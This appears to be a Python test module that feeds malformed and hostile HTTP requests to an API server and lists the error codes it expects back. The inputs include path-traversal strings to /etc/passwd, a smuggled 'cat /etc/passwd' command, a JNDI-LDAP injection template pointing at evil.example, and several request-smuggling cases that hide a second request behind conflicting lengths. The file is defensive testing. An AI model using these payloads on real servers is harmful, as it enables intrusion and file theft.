"""How it is sent: lines, targets, headers, lengths and chunks that two readers read differently."""

from tests.api.hostile.case import JSON, Case, told

_BAD = told(400)

_LINES = {
    "absolute, foreign": b"POST http://evil.example@PATH@ HTTP/1.1",
    "absolute, own": b"POST http://127.0.0.1:@PORT@@PATH@ HTTP/1.1",
    "absolute, TLS": b"POST https://127.0.0.1:@PORT@@PATH@ HTTP/1.1",
    "absolute, a file": b"POST file:///etc/passwd HTTP/1.1",
    "authority": b"CONNECT 127.0.0.1:22 HTTP/1.1",
    "a name": b"POST evil.example HTTP/1.1",
    "asterisk": b"POST * HTTP/1.1",
    "asterisk asked for options": b"OPTIONS * HTTP/1.1",
    "no slash": b"POST v1 HTTP/1.1",
    "a query alone": b"POST ?x=1 HTTP/1.1",
    "backslashes": b"POST \\v1\\memories HTTP/1.1",
    "no target": b"POST  HTTP/1.1",
    "no version": b"POST @PATH@",
    "two spaces": b"POST  @PATH@ HTTP/1.1",
    "a tab": b"POST\t@PATH@\tHTTP/1.1",
    "a word too many": b"POST @PATH@ HTTP/1.1 HTTP/1.1",
    "a space in the path": b"POST @PATH@ x HTTP/1.1",
    "version 0.9": b"POST @PATH@ HTTP/0.9",
    "version 1.2": b"POST @PATH@ HTTP/1.2",
    "version 2.0": b"POST @PATH@ HTTP/2.0",
    "version 3": b"POST @PATH@ HTTP/3",
    "version 1.10": b"POST @PATH@ HTTP/1.10",
    "another protocol": b"POST @PATH@ RTSP/1.0",
    "small letters": b"POST @PATH@ http/1.1",
    "the preface of HTTP/2": b"PRI * HTTP/2.0",
    "NUL in the method": b"PO\x00ST @PATH@ HTTP/1.1",
    "NUL in the path": b"POST @PATH@\x00 HTTP/1.1",
    "a carriage return in the path": b"POST @PATH@\rX: y HTTP/1.1",
    "DEL in the path": b"POST @PATH@\x7f HTTP/1.1",
    "bytes beyond ASCII": b"POST @PATH@\xff HTTP/1.1",
    "a method with a colon": b"PO:ST @PATH@ HTTP/1.1",
    "an empty method": b" @PATH@ HTTP/1.1",
}

_PATHS = {
    "a fragment": b"@PATH@#x",
    "NUL": b"@PATH@%00",
    "NUL and an ending": b"@PATH@%00.json",
    "line ends": b"@PATH@%0d%0aX-Y:%20z",
    "a percent sign": b"@PATH@%",
    "a half escape": b"@PATH@%4",
    "no hex": b"@PATH@%zz",
    "an escape of another kind": b"@PATH@%u0041",
    "no UTF-8": b"@PATH@%ff",
    "an overlong slash": b"@PATH@%c0%af",
    "escaped twice": b"@PATH@%252e",
    "a space": b"@PATH@%20",
    "a semicolon": b"@PATH@;jsessionid=1",
    "an ending": b"@PATH@.json",
    "up and down": b"@PREFIX@/x/..@PATH@",
    "here": b"/.@PATH@",
    "up, escaped": b"/%2e%2e@PATH@",
    "to the root": b"@PREFIX@/../../../../etc/passwd",
    "to the root, escaped": b"@PREFIX@/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "backslashes": b"@PREFIX@/..%5c..%5cetc",
    "the prefix twice": b"/native/azen@PATH@",
    "a prefix in capitals": b"/NATIVE/V1/MEMORIES",
    "a long path": b"@PATH@/" + b"a" * 8_000,
    "many segments": b"@PATH@" + b"/a" * 2_000,
    "a command": b"@PATH@/;cat%20/etc/passwd",
    "a template": b"@PATH@/$%7bjndi:ldap://evil.example%7d",
}

_METHODS = [
    b"TRACE", b"TRACK", b"CONNECT", b"OPTIONS", b"HEAD", b"PROPFIND", b"MKCOL", b"COPY", b"MOVE",
    b"LOCK", b"SEARCH", b"PURGE", b"LINK", b"DEBUG", b"post", b"Post", b"POSTS", b"P" * 3_000,
]  # fmt: skip

_HEADERS = {
    "no colon": b"nothing\r\n",
    "no name": b": nothing\r\n",
    "a space in the name": b"X y: z\r\n",
    "a space before the colon": b"X : z\r\n",
    "NUL in the name": b"X\x00: z\r\n",
    "NUL in the value": b"X: a\x00b\r\n",
    "a carriage return in the value": b"X: a\rb\r\n",
    "a name in brackets": b"(x): z\r\n",
    "a name beyond ASCII": b"\xc3\xb6: z\r\n",
    "a folded value": b"X: a\r\n b\r\n",
    "a folded value, by a tab": b"X: a\r\n\tContent-Length: 3\r\n",
    "a bare line feed": b"X: a\nY: b\r\n",
    "a bare line feed that hides a header": b"X: a\nOrigin: http://evil.example\r\n",
    "two lines ended by line feeds": b"X: a\nY: b\n",
    "a control character": b"X: a\x7fb\x01\r\n",
}

_REPEATED = {
    "the key twice": b"@KEY@",
    "another key beside it": b"@KEYNAME@: other\r\n",
    "If-Match twice": b'If-Match: "1"\r\nIf-Match: "2"\r\n',
    "a second length": b"Content-Length: 0\r\n",
    "two ways of telling the length": b"Transfer-Encoding: chunked\r\n",
    "two ways, in capitals": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "two ways, by a list": b"Transfer-Encoding: gzip, chunked\r\n",
    "two ways, one no coding": b"Transfer-Encoding: x\r\n",
    "two ways, identity": b"Transfer-Encoding: identity\r\n",
    "two ways, an odd space": b"Transfer-Encoding:\x0bchunked\r\n",
    "two ways, a space before the colon": b"Transfer-Encoding : chunked\r\n",
    "two ways, folded": b"Transfer-Encoding:\r\n chunked\r\n",
}

_LENGTHS = {
    "with a sign": b"+2",
    "below nothing": b"-1",
    "hexadecimal": b"0x10",
    "with an exponent": b"1e1",
    "with a point": b"2.0",
    "with an underscore": b"1_0",
    "a word": b"abc",
    "none": b"",
    "two numbers": b"2 2",
    "a list of different ones": b"2, 3",
    "a list of the same": b"2, 2",
    "other digits": "٢".encode(),
    "quoted": b'"2"',
}

_CODINGS = [
    b"gzip", b"identity", b"chunked, chunked", b"chunked, identity", b"gzip, chunked", b"xchunked",
    b"chunked;q=1", b'"chunked"', b"chunked\x00", b"", b"chunke",
    b"chunked\r\nTransfer-Encoding: x",
]  # fmt: skip

_CHUNKS = {
    "a size that is none": b"zz\r\n{}\r\n0\r\n\r\n",
    "a size with a sign": b"+2\r\n{}\r\n0\r\n\r\n",
    "a size below nothing": b"-2\r\n{}\r\n0\r\n\r\n",
    "a size with 0x": b"0x2\r\n{}\r\n0\r\n\r\n",
    "a size with spaces before": b"  2\r\n{}\r\n0\r\n\r\n",
    "a size of thirty digits": b"0" * 29 + b"2\r\n{}\r\n0\r\n\r\n",
    "a size beyond 64 bits": b"1" + b"0" * 20 + b"\r\n{}\r\n0\r\n\r\n",
    "more than its size": b"1\r\n{}\r\n0\r\n\r\n",
    "no line end after it": b"2\r\n{}0\r\n\r\n",
    "a bare line feed after the size": b"2\n{}\r\n0\r\n\r\n",
    "a bare line feed after the data": b"2\r\n{}\n0\r\n\r\n",
    "no size": b"\r\n{}\r\n0\r\n\r\n",
    "a bare carriage return": b"2\r{}\r\n0\r\n\r\n",
}

_CUT = {
    "after the head": (None, b""),
    "within the body": (b"Content-Length: 400\r\n", b'{"content":"x'),
    "one byte short": (b"Content-Length: 16\r\n", b'{"content":"x"}'),
    "within a chunk": (b"Transfer-Encoding: chunked\r\n", b'ff\r\n{"content":"x"'),
    "before the last chunk": (b"Transfer-Encoding: chunked\r\n", b'f\r\n{"content":"x"}\r\n'),
    "within a chunk's size": (b"Transfer-Encoding: chunked\r\n", b"f"),
}

_HIDDEN = (
    b"POST @PATH@ HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n@KEY@"
    + JSON
    + b"Content-Length: 2\r\n\r\n{}"
)


def _cut(name: str, length: bytes | None, body: bytes) -> Case:
    told_length = b"Content-Length: 9\r\n" if length is None else length
    return Case(
        f"cut: {name}",
        told(400, 408, 422),
        length=told_length,
        body=body,
        half_close=True,
        may_be_cut=True,
    )


CASES = (
    *(Case(f"line: {name}", told(400, 404), line=line + b"\r\n") for name, line in _LINES.items()),
    *(
        Case(
            f"path: {name}", told(400, 401, 403, 404, 405), line=b"POST " + path + b" HTTP/1.1\r\n"
        )
        for name, path in _PATHS.items()
    ),
    *(
        Case(
            f"method: {method[:20].decode()}",
            told(400, 404, 405),
            line=method + b" @PATH@ HTTP/1.1\r\n",
        )
        for method in _METHODS
    ),
    *(Case(f"header: {name}", _BAD, headers=JSON + line) for name, line in _HEADERS.items()),
    *(
        Case(f"header: {name}", _BAD, headers=JSON + line, half_close=True)
        for name, line in _REPEATED.items()
    ),
    *(
        Case(f"length {name}", _BAD, length=b"Content-Length: " + value + b"\r\n", body=b"{}")
        for name, value in _LENGTHS.items()
    ),
    Case("length twice, the same", _BAD, length=b"Content-Length: 2\r\n" * 2, body=b"{}"),
    Case("length shorter than the body", told(400, 422), length=b"Content-Length: 1\r\n"),
    *(
        Case(
            f"transfer coding: {value!r}",
            told(400, 415, 501),
            length=b"Transfer-Encoding: " + value + b"\r\n",
            body=b"2\r\n{}\r\n0\r\n\r\n",
        )
        for value in _CODINGS
    ),
    *(
        Case(f"chunk: {name}", _BAD, length=b"Transfer-Encoding: chunked\r\n", body=body)
        for name, body in _CHUNKS.items()
    ),
    Case(
        "chunks in HTTP/1.0",
        _BAD,
        line=b"POST @PATH@ HTTP/1.0\r\n",
        length=b"Transfer-Encoding: chunked\r\n",
        body=b"2\r\n{}\r\n0\r\n\r\n",
    ),
    *(_cut(name, length, body) for name, (length, body) in _CUT.items()),
    Case(
        "hidden by two lengths",
        _BAD,
        length=b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
        last=b"",
        body=b"0\r\n\r\n" + _HIDDEN,
    ),
    Case(
        "hidden by a second length",
        _BAD,
        length=b"Content-Length: 0\r\nContent-Length: 2\r\n",
        last=b"",
        body=_HIDDEN,
    ),
    Case("hidden behind bare line feeds", _BAD, last=b"X: y\n\n" + _HIDDEN, body=b""),
    Case(
        "hidden behind a refused body",
        told(415, 400),
        headers=b"Content-Type: text/plain\r\n",
        last=b"",
        body=_HIDDEN,
    ),
    Case(
        "three refused at once",
        told(421),
        host=b"Host: evil.example\r\n",
        length=b"",
        last=b"\r\nGET @PATH@ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
        b"GET @PATH@ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n",
        headers=b"",
        body=b"",
    ),
    Case("a thousand headers", told(431, 400), headers=JSON + b"a: b\r\n" * 1_000),
    Case("a huge header", told(431, 400), headers=JSON + b"X: " + b"a" * 40_000 + b"\r\n"),
    Case(
        "headers without end",
        told(431, 400),
        headers=JSON + b"A: b\r\n" * 9_000,
        may_be_cut=True,
    ),
    Case("one header without end", told(431, 400), headers=JSON + b"a" * 200_000, may_be_cut=True),
    Case("a huge query", told(431, 400), line=b"POST @PATH@?" + b"a" * 40_000 + b" HTTP/1.1\r\n"),
)
